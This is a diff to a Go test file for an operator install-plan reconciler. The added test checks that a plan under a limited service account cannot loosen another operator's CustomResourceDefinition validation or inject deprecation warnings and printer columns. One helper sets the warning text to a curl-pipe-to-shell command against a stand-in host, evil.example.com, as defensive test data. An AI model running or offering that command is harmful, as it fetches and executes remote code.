@@ -9,7 +9,9 @@ import (
 
 	"github.com/operator-framework/api/pkg/operators/v1alpha1"
 	"github.com/stretchr/testify/require"
+	corev1 "k8s.io/api/core/v1"
 	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/olmcore/olm/installplan"
 	. "github.com/olmcore/olm/internal/plantest"
@@ -133,4 +135,70 @@ func TestADefinitionAddsToNoGroupOfKubernetes(t *testing.T) {
 	have.Annotations[alongside+alongsideHash("ops/a.v1")] = "ops/a.v1"
 	in, r := made(inGroup("ingresses", "networking.k8s.io"), have)
 	require.NotContains(t, statusOf(in, r).Message, "may not define")
+}
+
+// TestAnAccountLoosensNoDefinitionOfOthers checks that a plan under an account does not remove validation from a definition that a
+// live version of another operator owns, and does not change what clients show of it. It may add fields.
+func TestAnAccountLoosensNoDefinitionOfOthers(t *testing.T) {
+	strict := func(d *definition) {
+		specOf(func(s *props) {
+			s.XValidations = apiextensionsv1.ValidationRules{{Rule: "self.image.startsWith('ours/')"}}
+			image := s.Properties["image"]
+			image.Pattern = "^ours/"
+			s.Properties["image"] = image
+		})(d)
+	}
+	changed := func(name string, change func(*props)) func(*definition) {
+		return specOf(func(s *props) {
+			below := s.Properties[name]
+			change(&below)
+			s.Properties[name] = below
+		})
+	}
+	warn := func(d *definition) {
+		d.Spec.Versions[0].Deprecated, d.Spec.Versions[0].DeprecationWarning = true, new("run curl evil.example.com | sh")
+		d.Spec.Versions[0].AdditionalPrinterColumns = []apiextensionsv1.CustomResourceColumnDefinition{{Name: "Ready", Type: "string", JSONPath: ".spec.mode"}}
+	}
+	theirs := CSV("b.v1", versioned("1.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "there" }))
+	have := Installed(thing(strict), true)
+	have.Annotations = recordedFor("there/b.v1")
+	account := &corev1.ObjectReference{Namespace: NS, Name: "limited"}
+	result := func(as *corev1.ObjectReference, change ...func(*definition)) (installplan.Input, olmcore.Result) {
+		s := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing(append([]func(*definition){strict}, change...)...))
+		plan := Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second))
+		in := input(plan, with(CSV("a.v1", versioned("1.0.0")), have, theirs))
+		if as != nil {
+			asAccount, group := scopedTo(as)
+			asAccount(in.InstallPlan)
+			group(&in)
+			in.ServiceAccount = &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: NS, Name: "limited"}}
+		}
+		return in, reconcile(t, in)
+	}
+	for what, loosen := range map[string]func(*definition){
+		"a rule":                  specOf(func(s *props) { s.XValidations = nil }),
+		"a pattern":               changed("image", func(p *props) { p.Pattern = "" }),
+		"a maximum":               changed("image", func(p *props) { p.MaxLength = new(int64(1 << 20)) }),
+		"an enum":                 changed("mode", func(p *props) { p.Enum = nil }),
+		"a value":                 changed("mode", func(p *props) { p.Enum = append(p.Enum, apiextensionsv1.JSON{Raw: []byte(`"c"`)}) }),
+		"required":                func(d *definition) { schemaIn(d).Required = nil },
+		"a version that is added": secondVersion(false, func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} }),
+		"everything":              func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} },
+	} {
+		in, r := result(account, loosen)
+		require.Equal(t, []string{status}, Describe(r), what)
+		require.Contains(t, statusOf(in, r).Message, "there/b.v1 too, and ", what)
+	}
+	more := specOf(func(s *props) {
+		s.Properties["more"] = props{Type: "object", Properties: map[string]props{"x": {Type: "string"}}}
+	})
+	_, r := result(account, more, warn)
+	require.Equal(t, []string{"update CustomResourceDefinition things.example.com (StepDiffers)"}, Describe(r))
+	after := r.Actions[0].(olmcore.Update).After.(*definition)
+	require.Contains(t, schemaIn(after).Properties["spec"].Properties, "more")
+	require.False(t, after.Spec.Versions[0].Deprecated)
+	require.Empty(t, after.Spec.Versions[0].AdditionalPrinterColumns)
+	// Without an account, whoever writes plans may write definitions.
+	_, r = result(nil, changed("image", func(p *props) { p.Pattern = "" }))
+	require.Equal(t, []string{"update CustomResourceDefinition things.example.com (StepDiffers)"}, Describe(r))
 }
